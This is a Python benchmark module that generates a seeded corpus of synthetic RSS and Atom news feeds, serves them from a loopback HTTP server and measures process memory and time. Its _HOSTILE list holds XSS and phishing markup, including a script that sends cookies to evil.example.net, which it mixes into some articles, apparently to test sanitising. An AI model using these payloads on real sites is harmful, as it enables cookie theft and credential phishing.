"""Synthetic feed corpus for benchmarks: a seeded generator, a loopback HTTP server in its
own process, an aggregator config writer and per-command wall time and peak memory
(the whole process tree's, sampled, and the largest process's, from the kernel).
Deterministic: the same seed gives the same bytes; nothing here reads the clock.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import email.utils
import html
import os
import random
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

__all__ = [
    "SAMPLE_INTERVAL_S",
    "CorpusServer",
    "FeedSpec",
    "Measured",
    "TreeSampler",
    "cpu_seconds",
    "feed_spec",
    "generate_feed",
    "loopback_host",
    "machine_facts",
    "run_measured",
    "serve_corpus",
    "tree_rss",
    "write_config",
]

REPO_ROOT = Path(__file__).resolve().parent.parent

# Every feed's newest item is newer with each version; the files' mtimes (and so
# Last-Modified) advance by a day per version, so If-Modified-Since never gives a
# false 304 even when two versions are written within the same second.
_EPOCH = datetime(2024, 1, 1, tzinfo=UTC)
_MTIME_BASE = int(_EPOCH.timestamp())
_CST = timezone(timedelta(hours=8))

# ---------------------------------------------------------------- vocabulary


def _words(text: str) -> list[str]:
    return text.split()


_EN_WORDS = _words(
    """
the a of to and in that for on with as by at from about after before over under
market markets economy growth inflation rates bank banks central policy government
minister officials report reports data quarter year month week analysts investors
company companies shares stock stocks bond bonds yield yields trade exports imports
energy oil gas prices price demand supply chain factory factories workers jobs wages
city council residents local transport railway airport port project projects plan
plans budget spending tax taxes reform reforms court ruling law laws election vote
voters campaign party leaders summit talks agreement deal deals partners region
technology software chips network networks data centre cloud security privacy users
research scientists study university students schools health hospital patients
climate weather storm flooding drought harvest farmers food water power grid
said says expected rose fell gained dropped announced warned agreed signed launched
opened closed reported estimated planned approved rejected delayed extended raised
cut increased reduced remained continued showed suggested noted added told
new major key early late higher lower strong weak record recent latest annual
national regional global domestic foreign public private financial industrial
"""
)

_EN_NAMES = _words(
    """
Acme Globex Initech Umbrella Hooli Vandelay Stark Wayne Tyrell Cyberdyne Soylent
Northwind Contoso Fabrikam Wingtip Litware Proseware Adatum Tailspin Woodgrove
"""
)

_ZH_WORDS = _words(
    """
经济 发展 市场 企业 政府 国际 合作 项目 建设 投资 增长 改革 创新 科技 产业 城市
农村 教育 医疗 文化 交通 能源 环境 保护 安全 服务 管理 政策 会议 领导 工作 人民
社会 生活 群众 地区 全国 全省 全市 记者 消息 报道 数据 统计 同比 环比 上涨 下降
继续 进一步 推动 加快 加强 提高 促进 实现 完成 开展 举行 召开 发布 表示 认为 指出
今年 去年 上半年 下半年 第一季度 目前 近日 日前 昨天 今天 明年 未来 规划 目标 任务
银行 金融 资本 股票 债券 利率 汇率 外贸 出口 进口 消费 居民 收入 就业 岗位 人才
天津 北京 上海 广州 深圳 重庆 滨海新区 京津冀 长三角 粤港澳 大湾区 一带一路
港口 铁路 机场 高速 地铁 公交 园区 工厂 制造业 新能源 汽车 芯片 数字 平台 网络
"""
)

_ZH_NAMES = _words(
    """
天津日报 今晚报 每日新闻 财经观察 城市快报 科技前沿 民生热线 港口动态 经济参考 时事要闻
"""
)

_EN_TOPICS = _words(
    """
Markets World Business Technology Science Health Politics Culture Sports Opinion
"""
)

_ZH_TOPICS = _words("财经 国际 科技 民生 文化 体育 评论 城市 教育 交通")

_CATEGORIES = (
    ("world", "World News"),
    ("business", "Business & Markets"),
    ("tech", "Technology"),
    ("caijing", "财经新闻"),
    ("tianjinribao", "天津日报新闻"),
)

_HOSTILE = (
    '<script>document.location="https://evil.example.net/?c="+document.cookie</script>',
    '<p onclick="steal()" onmouseover="track(this)">Click to read more.</p>',
    '<a href="javascript:alert(document.domain)">Open the full story</a>',
    '<iframe src="https://ads.example.net/frame.html" width="300" height="250"></iframe>',
    "<style>body { display: none } .ad { position: fixed }</style>",
    '<img src="x" onerror="alert(1)">',
    '<form action="https://evil.example.net/login"><input name="password"></form>',
    '<a href="  JaVaScRiPt:void(0)" target="_blank">Share</a>',
)


# -------------------------------------------------------------------- specs


@dataclass(frozen=True, slots=True, kw_only=True)
class FeedSpec:
    """What kind of feed number `index` is; a pure function of (seed, index)."""

    index: int
    kind: str  # "rss" or "atom"
    language: str  # "en" or "zh"
    encoding: str  # "utf-8" or "gbk"
    declare: str  # where the charset is declared: "prolog", "header" or "both"
    content_type: str  # the Content-Type header the server sends
    host: str  # the site the feed describes (links inside are relative to it)


def feed_spec(seed: int, index: int) -> FeedSpec:
    """The kind, language and encoding of feed `index`; 20% are Chinese, half of those GBK."""
    rng = random.Random(f"{seed}:spec:{index}")
    kind = "rss" if rng.random() < 0.6 else "atom"
    # Fixed pattern rather than dice so every corpus of 10+ feeds has exactly 20% Chinese
    # and 10% GBK, whatever the seed.
    language = "zh" if index % 5 == 4 else "en"
    encoding = "gbk" if language == "zh" and (index // 5) % 2 == 1 else "utf-8"
    mime = "application/rss+xml" if kind == "rss" else "application/atom+xml"
    if encoding == "gbk":
        # Chinese sites declare GBK either way; a header-only declaration is the case an
        # XML parser that ignores HTTP headers decodes wrongly.
        declare = ("prolog", "header", "both")[(index // 10) % 3]
        if declare == "prolog":
            content_type = mime
        elif declare == "header":
            content_type = "text/xml; charset=GBK"
        else:
            content_type = f"{mime}; charset=gbk"
    else:
        declare = "both"
        content_type = rng.choice(
            (f"{mime}; charset=utf-8", "text/xml; charset=UTF-8", "application/xml")
        )
    tld = "cn" if language == "zh" else rng.choice(("com", "org", "net"))
    return FeedSpec(
        index=index,
        kind=kind,
        language=language,
        encoding=encoding,
        declare=declare,
        content_type=content_type,
        host=f"news{index}.example.{tld}",
    )


# ---------------------------------------------------------------- text pools


class _Pools:
    """Sentence pools drawn once per seed: items are assembled from them, which keeps
    generation of a 50 MB corpus to a couple of seconds."""

    def __init__(self, seed: int) -> None:
        rng = random.Random(f"{seed}:pools")
        self.en = [self._en_sentence(rng) for _ in range(3000)]
        self.zh = [self._zh_sentence(rng) for _ in range(3000)]

    @staticmethod
    def _en_sentence(rng: random.Random) -> str:
        words = rng.choices(_EN_WORDS, k=rng.randint(8, 24))
        if rng.random() < 0.3:
            words.insert(rng.randrange(len(words)), rng.choice(_EN_NAMES))
        if rng.random() < 0.15:
            words.insert(rng.randrange(len(words)), f"{rng.randint(2, 98)}%")
        text = " ".join(words)
        if rng.random() < 0.1:
            text += ' & "more"'
        return text[0].upper() + text[1:] + rng.choice((".", ".", ".", "?", ";"))

    @staticmethod
    def _zh_sentence(rng: random.Random) -> str:
        words = rng.choices(_ZH_WORDS, k=rng.randint(6, 18))
        if rng.random() < 0.2:
            words.insert(rng.randrange(len(words)), f"{rng.randint(2, 98)}%")
        cut = rng.randrange(2, len(words) - 2)
        return "".join(words[:cut]) + "，" + "".join(words[cut:]) + rng.choice("。。。！")


_POOLS: dict[int, _Pools] = {}


def _pools(seed: int) -> _Pools:
    pools = _POOLS.get(seed)
    if pools is None:
        pools = _POOLS[seed] = _Pools(seed)
    return pools


# -------------------------------------------------------------------- items


@dataclass(frozen=True, slots=True, kw_only=True)
class _Item:
    number: int
    title: str
    link: str
    guid: str
    guid_is_link: bool
    published: datetime
    author: str
    topic: str
    summary: str
    html: str


def _en_title(rng: random.Random) -> str:
    w = [rng.choice(_EN_WORDS) for _ in range(6)]
    name = rng.choice(_EN_NAMES)
    pattern = rng.randrange(9)
    if pattern == 0:
        return f'{name}\'s "{w[0]} {w[1]}": {w[2]} & {w[3]} {w[4]}'
    if pattern == 1:
        return f"Q&A: {name} on {w[0]}, {w[1]} and {w[2]}"
    if pattern == 2:
        return f'"{w[0].title()} {w[1]}" — {name} says {w[2]} {w[3]} {w[4]}'
    if pattern == 3:
        return f"{name} & {rng.choice(_EN_NAMES)}: {w[0]} {w[1]} {w[2]} <{w[3]}>"
    if pattern == 4:
        return f"- {w[0]}: {w[1]} {w[2]} #{rng.randint(1, 99)}"
    if pattern == 5:
        return f"[{name}] {w[0]} {w[1]} --- {w[2]} {w[3]}"
    if pattern == 6:
        return f"{w[0].title()} {w[1]} rose {rng.randint(2, 40)}% in Q{rng.randint(1, 4)}"
    return f"{name} {w[0]} {w[1]} {w[2]} {w[3]} {w[4]}".strip()


def _zh_title(rng: random.Random) -> str:
    w = rng.choices(_ZH_WORDS, k=6)
    pattern = rng.randrange(5)
    if pattern == 0:
        return f"“{w[0]}{w[1]}”：{w[2]}{w[3]}{w[4]}"
    if pattern == 1:
        return f"{w[0]}{w[1]}：{w[2]} & {w[3]}{w[4]}"
    if pattern == 2:
        return f'{w[0]}"{w[1]}{w[2]}"{w[3]}{w[4]}'
    if pattern == 3:
        return f"【{rng.choice(_ZH_TOPICS)}】{w[0]}{w[1]}{w[2]}{w[3]}"
    return f"{w[0]}{w[1]}{w[2]}{w[3]}{w[4]}{w[5]}"


def _article(rng: random.Random, spec: FeedSpec, pools: _Pools, slug: str) -> str:
    """1-10 KB (encoded) of article HTML with relative links and, sometimes, hostile markup."""
    zh = spec.language == "zh"
    sentences = pools.zh if zh else pools.en
    target = rng.randint(1000, 10000)
    parts: list[str] = []
    size = 0
    hostile = rng.random() < 0.3
    while size < target:
        roll = rng.random()
        if roll < 0.62:
            text = ("" if zh else " ").join(rng.choices(sentences, k=rng.randint(2, 6)))
            head = ""
            if rng.random() < 0.2:
                head, text = f"<strong>{text[:10]}</strong>", text[10:]
            if rng.random() < 0.35:
                # Relative links: root-relative, path-relative and parent-relative.
                href = rng.choice(
                    (
                        f"/{slug}/related-{rng.randint(1, 999)}.html",
                        f"related/{rng.randint(1, 999)}.html",
                        f"../archive/{rng.randint(2015, 2023)}/index.html",
                        f"https://{spec.host}/topics/{rng.randint(1, 50)}/",
                        "?page=2&amp;sort=new",
                    )
                )
                cut = len(text) // 2
                text = f'{text[:cut]}<a href="{href}">{text[cut : cut + 12]}</a>{text[cut + 12 :]}'
            chunk = f"<p>{head}{text}</p>\n"
        elif roll < 0.74:
            src = rng.choice(
                (
                    f"/images/{slug}/{rng.randint(1, 20)}.jpg",
                    f"images/photo-{rng.randint(1, 500)}.png",
                    f"//cdn.example.com/img/{rng.getrandbits(32):08x}.jpg",
                )
            )
            alt = html.escape(rng.choice(sentences)[:30])
            w, h = rng.choice(((640, 360), (800, 600), (1200, 675)))
            chunk = f'<p><img src="{src}" alt="{alt}" width="{w}" height="{h}"></p>\n'
        elif roll < 0.84:
            tag = rng.choice(("ul", "ol"))
            items = "".join(
                f"<li>{s[: rng.randint(20, 80)]}</li>"
                for s in rng.choices(sentences, k=rng.randint(2, 6))
            )
            chunk = f"<{tag}>{items}</{tag}>\n"
        elif roll < 0.92:
            chunk = f"<h2>{rng.choice(sentences)[:40]}</h2>\n"
        else:
            chunk = f"<blockquote><p>{rng.choice(sentences)}</p></blockquote>\n"
        parts.append(chunk)
        size += len(chunk.encode()) if zh else len(chunk)
        if hostile and rng.random() < 0.15:
            parts.append(rng.choice(_HOSTILE) + "\n")
    if hostile:
        parts.insert(rng.randrange(len(parts)), rng.choice(_HOSTILE) + "\n")
    return "".join(parts)


def _item(seed: int, spec: FeedSpec, number: int) -> _Item:
    # An item depends only on (seed, feed, number): unchanged items stay byte-identical
    # across versions of a feed, as they do on real sites.
    rng = random.Random(f"{seed}:item:{spec.index}:{number}")
    pools = _pools(seed)
    zh = spec.language == "zh"
    minutes = spec.index * 13 + number * 97 + rng.randint(0, 60)
    published = _EPOCH + timedelta(minutes=minutes, seconds=rng.randint(0, 59))
    topic = rng.choice(_ZH_TOPICS if zh else _EN_TOPICS)
    slug = topic.lower() if not zh else f"c{_ZH_TOPICS.index(topic)}"
    link = f"https://{spec.host}/{slug}/{published:%Y/%m/%d}/{number:06d}.html"
    guid_is_link = rng.random() < 0.5
    if guid_is_link:
        guid = link
    elif rng.random() < 0.5:
        guid = f"urn:uuid:{uuid.UUID(int=rng.getrandbits(128), version=4)}"
    else:
        guid = f"tag:{spec.host},{published:%Y-%m-%d}:{number}"
    title = _zh_title(rng) if zh else _en_title(rng)
    author = rng.choice(("记者 王磊", "记者 李娜", "通讯员 张伟")) if zh else rng.choice(_EN_NAMES)
    body = _article(rng, spec, pools, slug)
    summary = (pools.zh if zh else pools.en)[rng.randrange(3000)]
    return _Item(
        number=number,
        title=title,
        link=link,
        guid=guid,
        guid_is_link=guid_is_link,
        published=published,
        author=author,
        topic=topic,
        summary=summary,
        html=body,
    )


# --------------------------------------------------------------------- feeds


def _text(s: str) -> str:
    return html.escape(s, quote=False)


def _attr(s: str) -> str:
    return html.escape(s, quote=True)


def _rss_date(dt: datetime, zh: bool) -> str:
    return (
        email.utils.format_datetime(dt.astimezone(_CST))
        if zh
        else email.utils.format_datetime(dt, usegmt=True)
    )


def _rss(seed: int, spec: FeedSpec, items: Sequence[_Item], prolog: str) -> str:
    zh = spec.language == "zh"
    rng = random.Random(f"{seed}:channel:{spec.index}")
    title = _ZH_NAMES[spec.index % len(_ZH_NAMES)] if zh else f"{rng.choice(_EN_NAMES)} News"
    cdata = rng.random() < 0.5
    full_content = rng.random() < 0.6
    out = [
        prolog,
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:atom="http://www.w3.org/2005/Atom">\n<channel>\n',
        f"<title>{_text(title)} #{spec.index}</title>\n",
        f"<link>https://{spec.host}/</link>\n",
        f'<atom:link rel="self" type="application/rss+xml" href="https://{spec.host}/rss.xml"/>\n',
        f"<description>{_text(title)}: {'新闻' if zh else 'latest stories'}</description>\n",
        f"<language>{'zh-cn' if zh else 'en-us'}</language>\n",
        f"<lastBuildDate>{_rss_date(items[0].published, zh)}</lastBuildDate>\n",
        "<ttl>30</ttl>\n",
    ]
    for it in items:
        body = f"<![CDATA[{it.html}]]>" if cdata else _text(it.html)
        perma = "true" if it.guid_is_link else "false"
        out.append(
            "<item>\n"
            f"<title>{_text(it.title)}</title>\n"
            f"<link>{_text(it.link)}</link>\n"
            f'<guid isPermaLink="{perma}">{_text(it.guid)}</guid>\n'
            f"<pubDate>{_rss_date(it.published, zh)}</pubDate>\n"
            f"<dc:creator>{_text(it.author)}</dc:creator>\n"
            f"<category>{_text(it.topic)}</category>\n"
        )
        if full_content:
            out.append(f"<description>{_text(it.summary)}</description>\n")
            out.append(f"<content:encoded>{body}</content:encoded>\n")
        else:
            out.append(f"<description>{body}</description>\n")
        out.append("</item>\n")
    out.append("</channel>\n</rss>\n")
    return "".join(out)


def _atom(seed: int, spec: FeedSpec, items: Sequence[_Item], prolog: str) -> str:
    zh = spec.language == "zh"
    rng = random.Random(f"{seed}:channel:{spec.index}")
    title = _ZH_NAMES[spec.index % len(_ZH_NAMES)] if zh else f"{rng.choice(_EN_NAMES)} Journal"
    tz = _CST if zh else UTC
    out = [
        prolog,
        f'<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://{spec.host}/"'
        f' xml:lang="{"zh-CN" if zh else "en"}">\n',
        f"<title>{_text(title)} #{spec.index}</title>\n",
        f"<id>tag:{spec.host},2024:feed</id>\n",
        f'<link rel="alternate" type="text/html" href="https://{spec.host}/"/>\n',
        f'<link rel="self" href="https://{spec.host}/atom.xml"/>\n',
        f"<updated>{items[0].published.astimezone(tz).isoformat()}</updated>\n",
    ]
    for it in items:
        published = it.published.astimezone(tz).isoformat()
        out.append(
            "<entry>\n"
            f'<title type="text">{_text(it.title)}</title>\n'
            f'<link rel="alternate" type="text/html" href="{_attr(it.link)}"/>\n'
            f"<id>{_text(it.guid)}</id>\n"
            f"<published>{published}</published>\n"
            f"<updated>{published}</updated>\n"
            f"<author><name>{_text(it.author)}</name></author>\n"
            f'<category term="{_attr(it.topic)}"/>\n'
            f'<summary type="text">{_text(it.summary)}</summary>\n'
            # xml:base on the content: relative links in it resolve against the article.
            f'<content type="html" xml:base="{_attr(it.link)}">{_text(it.html)}</content>\n'
            "</entry>\n"
        )
    out.append("</feed>\n")
    return "".join(out)


def generate_feed(
    seed: int, index: int, n_items: int, *, version: int = 0, new_per_version: int = 5
) -> bytes:
    """The bytes of feed `index` at `version`: each version adds `new_per_version` items
    on top and drops as many of the oldest; items already shown keep their bytes."""
    spec = feed_spec(seed, index)
    first = version * new_per_version
    items = [_item(seed, spec, n) for n in range(first + n_items - 1, first - 1, -1)]
    if spec.encoding == "gbk" and spec.declare == "header":
        prolog = '<?xml version="1.0"?>\n'
    elif spec.encoding == "gbk":
        prolog = '<?xml version="1.0" encoding="GBK"?>\n'
    else:
        prolog = '<?xml version="1.0" encoding="UTF-8"?>\n'
    text = (_rss if spec.kind == "rss" else _atom)(seed, spec, items, prolog)
    return text.encode(spec.encoding)


# ------------------------------------------------------------------- on disk


def _feed_path(root: Path, index: int) -> Path:
    return root / "feed" / f"{index}.xml"


def _write_feed(root: Path, seed: int, index: int, n_items: int, version: int) -> None:
    path = _feed_path(root, index)
    tmp = path.with_suffix(".tmp")
    tmp.write_bytes(generate_feed(seed, index, n_items, version=version))
    mtime = _MTIME_BASE + version * 86400 + index
    os.utime(tmp, (mtime, mtime))
    os.replace(tmp, path)


# -------------------------------------------------------------------- server


def _etag(st: os.stat_result) -> str:
    return f'"{st.st_mtime_ns:x}-{st.st_size:x}"'


def _not_modified(headers: dict[str, str], etag: str, mtime: int) -> bool:
    # RFC 9110 13.2.2: If-None-Match wins; If-Modified-Since only when it is absent.
    inm = headers.get("If-None-Match")
    if inm is not None:
        tags = [t.strip().removeprefix("W/") for t in inm.split(",")]
        return "*" in tags or etag in tags
    ims = headers.get("If-Modified-Since")
    if ims:
        try:
            since = email.utils.parsedate_to_datetime(ims)
        except (TypeError, ValueError):
            return False
        return mtime <= since.timestamp()
    return False


def loopback_host(n: int, hosts: int) -> str:
    """The address of host `n` of `hosts`: 127.0.0.1 alone, else 127.0.0.2, 127.0.0.3, …
    (all of 127.0.0.0/8 reaches the loopback on Linux; each is a host of its own to a
    per-host limit, which a port alone may not be)."""
    if hosts == 1:
        return "127.0.0.1"
    return f"127.0.{n // 250}.{n % 250 + 2}"


def _bind(hosts: int) -> list[socket.socket]:
    """Listening sockets on one port for every address of `hosts` loopback hosts."""
    for _ in range(20):
        socks: list[socket.socket] = []
        try:
            port = 0
            for n in range(hosts):
                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                socks.append(sock)
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                sock.bind((loopback_host(n, hosts), port))
                port = sock.getsockname()[1]
            return socks
        except OSError:
            # The port the first address got is taken on another one: draw another port.
            for sock in socks:
                sock.close()
            if hosts == 1:
                raise
    raise OSError(f"no port free on all of {hosts} loopback addresses")


async def _serve(root: Path, seed: int, ready: str, hosts: int = 1) -> None:
    from aiohttp import web

    async def feed(request: web.Request) -> web.StreamResponse:
        index = int(request.match_info["index"])
        path = _feed_path(root, index)
        try:
            st = os.stat(path)
        except FileNotFoundError:
            raise web.HTTPNotFound() from None
        etag = _etag(st)
        headers = {
            "ETag": etag,
            "Last-Modified": email.utils.formatdate(int(st.st_mtime), usegmt=True),
            "Cache-Control": "max-age=0",
        }
        if _not_modified(dict(request.headers), etag, int(st.st_mtime)):
            return web.Response(status=304, headers=headers)
        headers["Content-Type"] = feed_spec(seed, index).content_type
        return web.Response(body=path.read_bytes(), headers=headers)

    app = web.Application()
    app.router.add_get(r"/feed/{index:\d+}.xml", feed)
    runner = web.AppRunner(app, access_log=None, keepalive_timeout=75)
    await runner.setup()
    socks = _bind(hosts)
    for sock in socks:
        await web.SockSite(runner, sock, backlog=1024).start()
    print(f"{ready} {socks[0].getsockname()[1]}", flush=True)
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    await stop.wait()
    await runner.cleanup()


_READY = "LISTENING"


@dataclass(kw_only=True)
class CorpusServer:
    """A served corpus: `feed_urls[i]` is feed i; `bump()` publishes new versions.

    With `hosts` > 1 feed i is served by host `i % hosts` (`loopback_host`), all on `port`;
    `base_url` is the first host's. `pid`: the server process."""

    root: Path
    seed: int
    n_feeds: int
    n_items: int
    hosts: int = 1
    base_url: str = ""
    port: int = 0
    pid: int = 0
    versions: list[int] = field(default_factory=list)
    rounds: int = 0

    @property
    def feed_urls(self) -> list[str]:
        if self.hosts == 1:
            return [f"{self.base_url}/feed/{i}.xml" for i in range(self.n_feeds)]
        return [
            f"http://{loopback_host(i % self.hosts, self.hosts)}:{self.port}/feed/{i}.xml"
            for i in range(self.n_feeds)
        ]

    @property
    def total_bytes(self) -> int:
        return sum(_feed_path(self.root, i).stat().st_size for i in range(self.n_feeds))

    def bump(self, fraction: float) -> list[int]:
        """Give a seeded choice of `fraction` of the feeds new items; returns their indices."""
        self.rounds += 1
        k = round(self.n_feeds * fraction)
        chosen = sorted(
            random.Random(f"{self.seed}:bump:{self.rounds}").sample(range(self.n_feeds), k)
        )
        for i in chosen:
            self.versions[i] += 1
            _write_feed(self.root, self.seed, i, self.n_items, self.versions[i])
        return chosen


def generate_corpus(root: Path, n_feeds: int, n_items: int, *, seed: int = 1) -> None:
    """Write feeds 0..n_feeds-1 at version 0 under `root/feed/` (skips files already there).

    Raises:
        OSError: when `root` cannot be written.
    """
    (root / "feed").mkdir(parents=True, exist_ok=True)
    for i in range(n_feeds):
        if not _feed_path(root, i).exists():
            _write_feed(root, seed, i, n_items, 0)


@contextlib.contextmanager
def serve_corpus(
    n_feeds: int,
    n_items: int,
    *,
    seed: int = 1,
    changed_fraction: float = 0.0,
    root: Path | None = None,
    hosts: int = 1,
) -> Iterator[CorpusServer]:
    """Generate the corpus to disk and serve it from a separate process on 127.0.0.1
    (or, with `hosts` > 1, on that many loopback addresses: see `loopback_host`).

    `changed_fraction` bumps that share of the feeds once before serving. Feeds are
    read from disk per request, so neither process holds the corpus in memory.

    Raises:
        RuntimeError: when the server process does not start.
    """
    with contextlib.ExitStack() as stack:
        if root is None:
            root = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix="corpus-")))
        generate_corpus(root, n_feeds, n_items, seed=seed)
        server = CorpusServer(
            root=root,
            seed=seed,
            n_feeds=n_feeds,
            n_items=n_items,
            hosts=hosts,
            versions=[0] * n_feeds,
        )
        if changed_fraction:
            server.bump(changed_fraction)
        env = dict(os.environ)
        env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(REPO_ROOT), env.get("PYTHONPATH")]))
        proc = subprocess.Popen(
            [
                *(sys.executable, "-m", "bench.corpus", "serve", str(root)),
                *("--seed", str(seed), "--hosts", str(hosts)),
            ],
            stdout=subprocess.PIPE,
            env=env,
            text=True,
        )
        try:
            assert proc.stdout is not None
            line = proc.stdout.readline().split()
            if len(line) != 2 or line[0] != _READY:
                raise RuntimeError(f"corpus server did not start (exit {proc.poll()})")
            server.port = int(line[1])
            server.pid = proc.pid
            server.base_url = f"http://{loopback_host(0, hosts)}:{line[1]}"
            yield server
        finally:
            proc.terminate()
            try:
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()
            if proc.stdout is not None:
                proc.stdout.close()


# -------------------------------------------------------------------- config


def write_config(
    directory: Path,
    feed_urls: Sequence[str],
    *,
    seed: int = 1,
    interval: str = "30m",
    database: str = "sqlite:///aggregator.db",
    sections: Mapping[str, Mapping[str, Any]] | None = None,
) -> Path:
    """Write `config.yaml` for the aggregator (SQLite unless `database` says otherwise,
    output inside `directory`); `sections` adds keys to a section, or a section.

    Raises:
        OSError: when `directory` cannot be written.
    """
    import yaml

    directory.mkdir(parents=True, exist_ok=True)
    sources = []
    for i, url in enumerate(feed_urls):
        spec = feed_spec(seed, i)
        zh = spec.language == "zh"
        name = f"{_ZH_NAMES[i % len(_ZH_NAMES)]} {i}" if zh else f"Feed {i:04d}"
        category = _CATEGORIES[3 + i % 2][0] if zh else _CATEGORIES[i % 3][0]
        sources.append({"name": name, "url": url, "category": category})
    config = {
        "site": {
            "title": "Benchmark News",
            "base_url": "https://bench.example.org/",
            "output_dir": "site",
            "timezone": "Asia/Shanghai",
            "language": "en",
        },
        "database": database,
        "schedule": {"interval": interval},
        "categories": {slug: {"title": title} for slug, title in _CATEGORIES},
        "sources": sources,
    }
    for name, keys in (sections or {}).items():
        config[name] = {**config.get(name, {}), **keys}
    path = directory / "config.yaml"
    path.write_text(yaml.safe_dump(config, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path


# ------------------------------------------------------------------- measure

# How often the process tree's memory is sampled while a measured command runs.
SAMPLE_INTERVAL_S = 0.025

# The launcher when /usr/bin/time is missing: a bare interpreter (-S -I: no site, no
# user paths, a few MB) forks the command, waits for it and writes the ru_maxrss of
# that wait4() to the file argv[1]. Forking from a small process matters: on Linux a
# child's ru_maxrss starts at the parent's RSS at fork time (exec keeps the old mm's
# high-water mark), so a command forked from a big benchmark process reads as big.
_LAUNCHER = """\
import os, sys
pid = os.fork()
if pid == 0:
    try:
        os.execvp(sys.argv[2], sys.argv[2:])
    finally:
        os._exit(127)
_, status, usage = os.wait4(pid, 0)
with open(sys.argv[1], "w") as f:
    f.write(f"{usage.ru_maxrss}\\n")
code = os.waitstatus_to_exitcode(status)
sys.exit(code if code >= 0 else 128 - code)
"""
_GNU_TIME = "/usr/bin/time"


@dataclass(frozen=True, slots=True, kw_only=True)
class Measured:
    """One command's wall time, memory and output.

    `tree_rss_bytes`: the largest sum of VmRSS over the command's process and all its
    descendants, sampled every SAMPLE_INTERVAL_S (pages shared between processes, such
    as a forkserver's with its workers, count once per process). `largest_rss_bytes`:
    the kernel's high-water mark (ru_maxrss) from wait4() in a small launcher: the
    command's main process and the descendants it reaped (a forkserver is not reaped by
    it, so its workers are missing). `processes`: the most processes seen at once.
    `process_peak_bytes`: the largest single process's own peak, the greater of each
    sampled process's VmHWM (its kernel high-water mark, as last sampled) and
    `largest_rss_bytes`.
    `tree_cpu_s`: user + system CPU of every process of the tree, as last sampled (up
    to one interval short per process).
    """

    argv: tuple[str, ...]
    returncode: int
    wall_s: float
    tree_rss_bytes: int
    largest_rss_bytes: int
    processes: int
    samples: int
    tree_cpu_s: float
    stdout: str
    stderr: str
    process_peak_bytes: int = 0

    @property
    def max_rss_bytes(self) -> int:
        """The peak of the whole tree; never below the largest process's own peak (a
        command shorter than one sampling interval may not be sampled at all)."""
        return max(self.tree_rss_bytes, self.largest_rss_bytes)


_TICK_S = 1 / os.sysconf("SC_CLK_TCK")


def _vm_rss(pid: int) -> int | None:
    """VmRSS of `pid` in bytes; None when it is gone or a zombie."""
    try:
        with open(f"/proc/{pid}/status", "rb") as f:
            status = f.read()
    except OSError:
        return None
    at = status.find(b"\nVmRSS:")
    if at < 0:
        return None
    return int(status[at + 7 : status.index(b"kB", at)]) * 1024


def _vm_hwm(pid: int) -> int:
    """VmHWM of `pid` in bytes, the peak of its resident set so far (0 when it is gone)."""
    try:
        with open(f"/proc/{pid}/status", "rb") as f:
            status = f.read()
    except OSError:
        return 0
    at = status.find(b"\nVmHWM:")
    if at < 0:
        return 0
    return int(status[at + 7 : status.index(b"kB", at)]) * 1024


def cpu_seconds(pid: int) -> float:
    """User + system CPU seconds `pid` has used so far (0 when it is gone)."""
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            stat = f.read()
    except OSError:
        return 0.0
    fields = stat[stat.rindex(b")") + 2 :].split()  # the name may hold spaces
    return (int(fields[11]) + int(fields[12])) * _TICK_S


def _children(pid: int) -> list[int]:
    """The child processes of every thread of `pid` (Linux /proc/PID/task/TID/children)."""
    out: list[int] = []
    try:
        tids = os.listdir(f"/proc/{pid}/task")
    except OSError:
        return out
    for tid in tids:
        try:
            with open(f"/proc/{pid}/task/{tid}/children", "rb") as f:
                out.extend(int(x) for x in f.read().split())
        except OSError:
            continue
    return out


def tree_rss(root: int, *, include_root: bool = True) -> dict[int, int]:
    """VmRSS in bytes of `root` and each live descendant, by pid."""
    found: dict[int, int] = {}
    stack = [root] if include_root else _children(root)
    while stack:
        pid = stack.pop()
        rss = _vm_rss(pid)
        if rss is None:
            continue
        found[pid] = rss
        stack.extend(_children(pid))
    return found


class TreeSampler(threading.Thread):
    """Samples the process trees under `roots` until stopped (each root itself only with
    `include_roots`: a launcher is not counted): the peak of their summed VmRSS, the most
    processes at once and, per process, the CPU time (`cpu`) and VmHWM (`hwm`) last seen."""

    def __init__(
        self, roots: Sequence[int], interval: float, *, include_roots: bool = False
    ) -> None:
        super().__init__(name="rss-sampler", daemon=True)
        self._roots = tuple(roots)
        self._include_roots = include_roots
        self._interval = interval
        self._done = threading.Event()
        self._lock = threading.Lock()
        self.peak = 0
        self.processes = 0
        self.samples = 0
        self.cpu: dict[int, float] = {}
        self.hwm: dict[int, int] = {}

    def sample(self) -> dict[int, float]:
        """Sample now (also while the thread runs); a copy of `cpu` after it."""
        found: dict[int, int] = {}
        for root in self._roots:
            found.update(tree_rss(root, include_root=self._include_roots))
        with self._lock:
            if found:
                self.samples += 1
                self.peak = max(self.peak, sum(found.values()))
                self.processes = max(self.processes, len(found))
                for pid in found:
                    self.cpu[pid] = max(self.cpu.get(pid, 0.0), cpu_seconds(pid))
                    self.hwm[pid] = max(self.hwm.get(pid, 0), _vm_hwm(pid))
            return dict(self.cpu)

    def run(self) -> None:
        while True:
            self.sample()
            if self._done.wait(self._interval):
                return

    def stop(self) -> None:
        self._done.set()
        self.join()


def run_measured(
    argv: Sequence[str],
    *,
    env: dict[str, str] | None = None,
    cwd: Path | None = None,
    timeout: float | None = None,
    interval: float = SAMPLE_INTERVAL_S,
) -> Measured:
    """Run `argv` to completion: wall time, the peak memory of its whole process tree
    (sampled) and the peak of its largest process (the kernel's, via a small launcher).

